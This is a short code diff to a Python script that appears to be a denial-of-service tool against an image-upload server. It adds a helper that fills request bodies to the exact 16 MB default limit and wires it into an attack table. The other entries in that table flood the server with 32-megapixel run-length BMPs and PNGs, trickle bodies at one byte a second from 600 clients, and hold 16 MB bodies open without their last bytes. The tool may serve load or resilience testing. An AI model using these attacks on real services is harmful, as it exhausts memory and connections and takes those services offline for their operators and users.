@@ -69,6 +69,12 @@ def run_bmp(width: int = 31_999_999) -> bytes:
     return b"BM" + struct.pack("<IHHI", start + len(runs), 0, 0, start) + head + palette + runs
 
 
+def largest_body() -> bytes:
+    """Return content whose request has a body of exactly 16 MB, the default limit."""
+    rest = form_request("", "image", b"").partition(b"\r\n\r\n")[2]
+    return bytes(16_000_000 - len(rest))
+
+
 async def repeat(attack: Attack, request: bytes) -> None:
     """Send a request again and again, and read the answers."""
     while True:
@@ -134,7 +140,7 @@ ATTACKS = {
     "runs": Kind("16 run-length BMPs of 32 megapixels, 4 clients", 4, repeat, lambda: [run_bmp()] * 16),
     "large": Kind("16 RGBA PNGs of 32 megapixels, 2 clients", 2, repeat, lambda: [large_png()] * 16),
     "slow": Kind("bodies at 1 byte a second, 600 clients", 600, trickle, lambda: [bytes(100_000)]),
-    "held": Kind("bodies of 16 MB without their last 5 bytes, 16 clients", 16, hold_back, lambda: [bytes(15_999_000)]),
+    "held": Kind("bodies of 16 MB without their last 5 bytes, 16 clients", 16, hold_back, lambda: [largest_body()]),
 }
 
 
